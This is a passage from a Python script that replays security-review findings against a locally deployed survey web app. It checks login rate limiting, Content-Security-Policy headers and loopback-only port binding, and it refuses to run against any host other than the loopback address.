        api.send_json("POST", "/api/v1/auth/token/", {"username": "alice", "password": "x"}).status
        for _ in range(12)
    ]
    logins = [
        Browser(ctx.base).form("/accounts/login/", {"username": "alice", "password": "x"}).status
        for _ in range(12)
    ]
    same = (right.status, right.text) == (wrong.status, wrong.text)
    return (
        f"carol right {right.status} / wrong {wrong.status} same={same}; "
        f"token codes {codes}; login codes {logins}",
        same and 429 in codes and 429 in logins,
    )


@finding("27", "every page has a CSP without inline scripts; compose does not publish gunicorn")
def f27(ctx):
    seen = {}
    for path in ("/", "/s/demo-likert/", "/play/", "/accounts/login/"):
        csp = Browser(ctx.base).get(path).headers.get("Content-Security-Policy", "")
        seen[path] = (
            bool(csp)
            and "script-src" in csp
            and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        )
    compose = (ROOT / "docker-compose.yml").read_text()
    local_only = '"127.0.0.1:8000:8000"' in compose and '"8000:8000"' not in compose
    return f"CSP per page {seen}; compose publishes gunicorn on 127.0.0.1 only: {local_only}", (
        all(seen.values()) and local_only
    )


class Context:
    def __init__(self, args):
        self.base = args.base.rstrip("/")
        self.run = secrets.token_hex(3)
        self.carol_pw = args.carol.split(":", 1)[1]
        self.psql_db = args.psql_db
        self.celery_pid = args.celery_pid
        self.worker_log = args.worker_log
        self.alice, self.bob, self.admin = (self.token(cred) for cred in (args.alice, args.bob, args.admin))
        self.alice_web, self.bob_web = Browser(self.base), Browser(self.base)
        self.alice_web.login(*args.alice.split(":", 1))
        self.bob_web.login(*args.bob.split(":", 1))
        self.exam = self.slug("exam")
        exam = example("simulation-exam.json", self.exam)
        create(self.alice, exam)
        create(self.alice, example("claim.json", self.slug("small"), attention_check_rate=0))

    def token(self, credential: str) -> Browser:
        user, password = credential.split(":", 1)
        reply = Browser(self.base).send_json(
            "POST", "/api/v1/auth/token/", {"username": user, "password": password}
        )
        assert reply.status == 200, f"token for {user}: {reply!r}"
        return Browser(self.base, token=reply.json()["token"])

    def slug(self, name: str) -> str:
        return f"rr-{self.run}-{name}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--base", default="http://127.0.0.1:8123")
    for who in ("alice", "bob", "carol", "admin"):
        parser.add_argument(f"--{who}", required=True, help="username:password")
    parser.add_argument(
        "--psql-db", help="the deployment's database (psql -h 127.0.0.1 -U postgres) for finding 17"
    )
    parser.add_argument(
        "--celery-pid", type=int, help="the worker's main process, for finding 1 (with --psql-db)"
    )
    parser.add_argument(
        "--kill-worker-log",
        dest="worker_log",
        help="finding 24: SIGKILL the whole worker (--celery-pid), start a replacement like it with its log "
        "appended here, and run sweepjobs until the job ends (the replacement is left running)",
    )
    parser.add_argument("--only", help="comma-separated finding numbers")
    args = parser.parse_args()
    host = urllib.parse.urlsplit(args.base).hostname
    if host not in ("127.0.0.1", "localhost", "::1"):
        parser.error("loopback deployments only")
    ctx = Context(args)
    replays = [
        f01,
        f02,
        f03,
        f04,
        f05,
        f06,
        f07,
        f08,
        f09,
        f10,
        f11,
        f12,
        f13,
        f14,
        f15,
        f16,
        f17,
        f18,
        f19,
        f20,
        f21,
        f22,
        f27,
        f23,
        f24,
    ]
    only = set(args.only.split(",")) if args.only else None
    for replay in replays:
        if replay is f01 and not (ctx.psql_db and ctx.celery_pid):
            print(
                "  1 SKIP  needs --psql-db and --celery-pid; tests/adversarial/test_finding_01_stuck_jobs.py"
            )
        elif replay is f24 and not (ctx.psql_db and ctx.celery_pid and ctx.worker_log):
            print(" 24 SKIP  needs --kill-worker-log; tests/adversarial/test_finding_24_killed_worker.py")
        elif replay is f17 and not ctx.psql_db:
            print(
                " 17 SKIP  needs --psql-db; "
                "tests/adversarial/test_finding_17_expired_page_refused_at_submit.py"
            )
        elif only is None or replay.number in only:
            replay(ctx)
    for number, note in (
        ("25", "info: documented in docs/crowd.md (what URL-parameter identities allow)"),
        ("26", "info: documented in docs/api.md (public_id is one id across studies)"),
        ("28", "needs a 40k-answer study: tests/adversarial/test_finding_28_participants_page.py"),
    ):
        print(f"{number:>3} SKIP  {note}")
    failed = [r for r in RESULTS if not r[3]]
    print(f"\n{len(RESULTS) - len(failed)} PASS, {len(failed)} FAIL of {len(RESULTS)} replayed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
